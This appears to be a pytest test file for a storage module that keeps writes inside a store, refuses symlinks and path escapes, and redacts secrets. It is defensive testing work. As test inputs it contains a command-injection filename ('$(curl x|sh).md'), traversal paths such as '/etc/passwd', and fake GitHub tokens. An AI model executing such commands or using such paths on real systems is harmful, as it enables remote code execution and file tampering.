"""storefs: every write stays inside its store, follows no symlink, and is screened."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from memory_engine.errors import UnsafePathError
from memory_engine.storage import storefs

GITHUB_TOKEN = "ghp_" + "Zq8Xv2Lm4Np6Rt0Yb3Wc5Ke7Hd9Jf1Ga2Su4Ix"


@pytest.fixture
def base(tmp_path: Path) -> Path:
    root = tmp_path / "store"
    root.mkdir()
    return root


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    target = tmp_path / "outside"
    target.mkdir()
    (target / "bashrc").write_text("original\n", encoding="utf-8")
    return target


def test_text_is_written_atomically_and_screened(base: Path) -> None:
    path = base / "a" / "b" / "note.md"
    storefs.write_text(base, path, f"token {GITHUB_TOKEN}\x00 and\x1b more\r\n")
    written = path.read_text(encoding="utf-8")
    assert GITHUB_TOKEN not in written and "[REDACTED:" in written
    assert "\x00" not in written and "\x1b" not in written and "\r" not in written
    assert not [p for p in path.parent.iterdir() if p.name.endswith(".tmp")]


@pytest.mark.parametrize("bad", ["../escape.md", "/etc/passwd", "a/../../escape.md", "a\x00b"])
def test_paths_that_leave_the_base_are_refused(base: Path, bad: str) -> None:
    with pytest.raises(UnsafePathError):
        storefs.write_text(base, bad, "x")
    assert not (base.parent / "escape.md").exists()


def test_a_symlinked_file_is_never_written_through(base: Path, outside: Path) -> None:
    logs = base / ".logs"
    logs.mkdir()
    (logs / "tool-observations.jsonl").symlink_to(outside / "bashrc")
    with pytest.raises(UnsafePathError, match="symlink"):
        storefs.append_line(base, logs / "tool-observations.jsonl", "$(curl x|sh).md")
    assert (outside / "bashrc").read_text(encoding="utf-8") == "original\n"
    # an atomic replace swaps the link itself, never the file it points to
    storefs.write_text(base, logs / "tool-observations.jsonl", "new\n")
    assert (outside / "bashrc").read_text(encoding="utf-8") == "original\n"
    assert not (logs / "tool-observations.jsonl").is_symlink()


def test_a_symlinked_folder_at_any_depth_is_refused(base: Path, outside: Path) -> None:
    (base / "_archive").symlink_to(outside)
    (base / "tier").mkdir()
    (base / "tier" / "deep").symlink_to(outside)
    for target in (base / "_archive" / "x.md", base / "tier" / "deep" / "x.md",
                   base / "_archive" / "new" / "x.md"):
        with pytest.raises(UnsafePathError, match="symlink"):
            storefs.write_text(base, target, "x")
    assert sorted(p.name for p in outside.iterdir()) == ["bashrc"]


def test_move_never_overwrites_and_refuses_links(base: Path, outside: Path) -> None:
    (base / "a.md").write_text("a", encoding="utf-8")
    (base / "b.md").write_text("b", encoding="utf-8")
    with pytest.raises(FileExistsError):
        storefs.move(base, base / "a.md", base / "b.md")
    (base / "_archive").symlink_to(outside)
    with pytest.raises(UnsafePathError):
        storefs.move(base, base / "a.md", base / "_archive" / "a.md")
    assert (base / "a.md").read_text(encoding="utf-8") == "a"
    storefs.move(base, base / "a.md", base / "kept" / "a.md")
    assert (base / "kept" / "a.md").read_text(encoding="utf-8") == "a"


def test_remove_unlinks_a_link_not_its_target(base: Path, outside: Path) -> None:
    (base / "link.md").symlink_to(outside / "bashrc")
    assert storefs.remove(base, base / "link.md")
    assert (outside / "bashrc").exists()
    assert not storefs.remove(base, base / "link.md")


def test_append_rotates_past_its_cap(base: Path) -> None:
    path = base / ".logs" / "obs.jsonl"
    for i in range(200):
        storefs.append_json_line(base, path, {"i": i, "pad": "x" * 100}, rotate_at=4096)
    assert path.stat().st_size <= 4096 + 200
    assert (base / ".logs" / "obs.jsonl.1").exists()
    lines = path.read_text(encoding="utf-8").splitlines()
    assert lines and all(line.startswith('{"i":') for line in lines)


def test_json_strings_are_screened_without_breaking_json(base: Path) -> None:
    import json

    path = base / "state.json"
    storefs.write_json(base, path, {"quote": f"use {GITHUB_TOKEN}\x00", "n": [1, "ok"]})
    data = json.loads(path.read_text(encoding="utf-8"))
    assert GITHUB_TOKEN not in data["quote"] and "\x00" not in data["quote"]
    assert data["n"] == [1, "ok"]


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_screened_text_never_holds_controls(text: str) -> None:
    clean = storefs.screen_text(text)
    assert all(c in "\n\t" or not (ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0) for c in clean)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(st.characters(blacklist_characters="/\x00"), min_size=1, max_size=12),
                min_size=1, max_size=4))
def test_relative_parts_stay_inside(parts: list[str]) -> None:
    base = "/srv/store"
    try:
        found = storefs.relative_parts(base, os.path.join(*parts))
    except UnsafePathError:
        return
    full = os.path.normpath(os.path.join(base, *found))
    assert full == base or full.startswith(base + "/")
    assert ".." not in found


def test_screen_value_redacts_a_secret_deep_inside_and_leaves_the_rest() -> None:
    from memory_engine.storage.storefs import screen_value

    token = "ghp_" + "k3Xq9LmP2vR7tW4yZ8bN1cD6fG0hJ5sQ2uE9"
    value = {"session": {"head": "a" * 40, "ids": ["testing-pytest-1", "x"],
                         "notes": [{"cmd": f"export GITHUB_TOKEN={token}"}]}}
    screened = screen_value(value)
    assert token not in str(screened)
    assert screened["session"]["head"] == "a" * 40
    assert screened["session"]["ids"] == ["testing-pytest-1", "x"]
    clean = {"session": {"head": "b" * 40, "turns": [1, 2, 3], "cwd": "/tmp/p"}}
    assert screen_value(clean) == clean
    # tuples come back as lists, and control characters go, even when nothing is a secret
    assert screen_value({"a": ("x", "y\x00z")}) == {"a": ["x", "yz"]}
    # a string repeated across a value (a queued task's prompt) is read once, wherever it is
    prompt = f"why does GITHUB_TOKEN={token} fail?"
    queue = {"task": {"prompt": prompt}, "due": [{"next_prompt": prompt}] * 20}
    assert token not in str(screen_value(queue))
    assert screen_value({"due": [{"next_prompt": "run the tests"}] * 20}) == \
        {"due": [{"next_prompt": "run the tests"}] * 20}
